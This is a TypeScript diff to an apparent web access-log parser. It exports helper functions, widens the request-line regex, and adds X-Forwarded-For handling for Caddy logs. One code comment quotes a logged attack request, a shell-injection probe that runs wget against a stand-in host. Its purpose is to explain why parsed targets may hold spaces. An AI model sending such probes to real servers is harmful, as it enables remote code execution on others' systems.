@@ -15,7 +15,7 @@ export interface AccessRecord {
   fields?: EventFields;
 }
 
-function firstText(obj: JsonObject, keys: readonly string[]): string | undefined {
+export function firstText(obj: JsonObject, keys: readonly string[]): string | undefined {
   for (const key of keys) {
     const value = presentValue(textOf(obj[key]));
     if (value !== undefined) return value;
@@ -24,7 +24,7 @@ function firstText(obj: JsonObject, keys: readonly string[]): string | undefined
 }
 
 /** The first present time field of `keys`, read. */
-function readTime(obj: JsonObject, keys: readonly string[], ctx: ParseContext): TimeField {
+export function readTime(obj: JsonObject, keys: readonly string[], ctx: ParseContext): TimeField {
   for (const key of keys) {
     const field = readTimeField(obj[key], ctx);
     if (field.time !== undefined || field.unreadable) return field;
@@ -32,24 +32,43 @@ function readTime(obj: JsonObject, keys: readonly string[], ctx: ParseContext): 
   return { unreadable: false };
 }
 
-function timed(field: TimeField, record: Omit<AccessRecord, 'time' | 'unreadableTime'>): AccessRecord {
+export function timed(field: TimeField, record: Omit<AccessRecord, 'time' | 'unreadableTime'>): AccessRecord {
   return { time: field.time, ...(field.unreadable ? { unreadableTime: true } : {}), ...record };
 }
 
+// A request line as the client sent it: the target runs to ` HTTP/x` and may hold spaces (a client
+// that does not encode them: ALB classifies such a request `SpaceInUri`, nginx and Apache log it as
+// it came, `"GET /shell?cd+/tmp;wget+ a.example/x HTTP/1.1"`). The lazy target and the fixed
+// protocol suffix match in one pass (no nested repetition), so a long line cannot backtrack long.
+const REQUEST_LINE = /^([A-Z][A-Z0-9_-]*) (\S.*?)(?: HTTP\/[\d.]+)?$/;
+
 /** `"POST /path?x HTTP/1.1"` → method and target; undefined for junk (TLS bytes sent to port 80). */
 export function splitRequestLine(request: string): { method: string; target: string } | undefined {
-  const m = /^([A-Z][A-Z0-9_-]*) (\S+)(?: HTTP\/[\d.]+)?$/.exec(request.trim());
+  const m = REQUEST_LINE.exec(request.trim());
   return m ? { method: m[1]!, target: m[2]! } : undefined;
 }
 
+/** A header Caddy or cloudflared logs as an array of values (`"Cf-Connecting-Ip":["140.115.59.10"]`). */
+export function headerValue(headers: unknown, name: string): string | undefined {
+  if (!isJsonObject(headers)) return undefined;
+  const value = headers[name];
+  return presentValue(textOf(Array.isArray(value) ? value[0] : value));
+}
+
 // Caddy: `ts` is epoch seconds as a float; the request is a nested object whose headers are
-// arrays; `client_ip` is the client after trusted proxies, `remote_ip` the peer.
+// arrays; `client_ip` is the client after trusted proxies, `remote_ip` the peer. Without
+// `trusted_proxies` Caddy leaves `client_ip` the peer and logs X-Forwarded-For among the headers
+// (Caddy behind cloudflared or a local proxy): that list, believed only from a trusted peer.
 function readCaddy(obj: JsonObject, request: JsonObject, ctx: ParseContext): AccessRecord {
   const headers = isJsonObject(request['headers']) ? request['headers'] : {};
   const agent = headers['User-Agent'];
+  const peer = clientAddress(firstText(request, ['remote_ip', 'remote_addr']));
+  const client = clientAddress(firstText(request, ['client_ip']));
+  const forwarded = client === undefined || client === peer ? headerValue(headers, 'X-Forwarded-For') : undefined;
   return timed(readTime(obj, ['ts'], ctx), {
     fields: {
-      source: clientAddress(firstText(request, ['client_ip', 'remote_ip', 'remote_addr'])),
+      source: forwarded !== undefined ? peer : (client ?? peer),
+      forwardedFor: forwarded,
       method: firstText(request, ['method']),
       path: pathOnly(firstText(request, ['uri'])),
       status: httpStatus(obj['status']),
